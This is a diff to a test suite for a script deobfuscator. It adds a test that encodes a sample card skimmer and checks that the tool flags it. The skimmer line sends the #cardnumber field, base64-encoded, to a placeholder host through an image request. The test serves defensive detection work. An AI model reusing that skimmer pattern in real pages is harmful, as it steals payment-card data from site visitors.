@@ -1,4 +1,5 @@
 import { readFile } from 'node:fs/promises'
+import { jjencode } from '#test/data/symbol-encoders.ts'
 import { dropOn, idle } from '../screen.ts'
 import { expect, test } from '../test.ts'
 import { box, part, paste, path, result, trySample } from './deobfuscate-screen.ts'
@@ -103,6 +104,18 @@ test.describe('the deobfuscator', () => {
       expect(await readFile(await download.path(), 'utf8')).toContain('could not be judged')
       await page.getByRole('button', { name: 'New script' }).click()
     }
+  })
+
+  test('unpacks a skimmer that is written in symbols', async ({ openSite }) => {
+    const { page } = await openSite({ path })
+    await paste(
+      page,
+      jjencode(
+        'document.onsubmit=function(){new Image().src="https://p.invalid/?"+btoa(document.querySelector("#cardnumber").value)}',
+      ),
+    )
+    await expect(page.getByText('It looks like a card skimmer')).toBeVisible()
+    await expect(part(page, 'Where it sends and loads').getByText('https://p.invalid/?…')).toBeVisible()
   })
 
   test('reads a dropped script of 4.8 MB', async ({ openSite }) => {
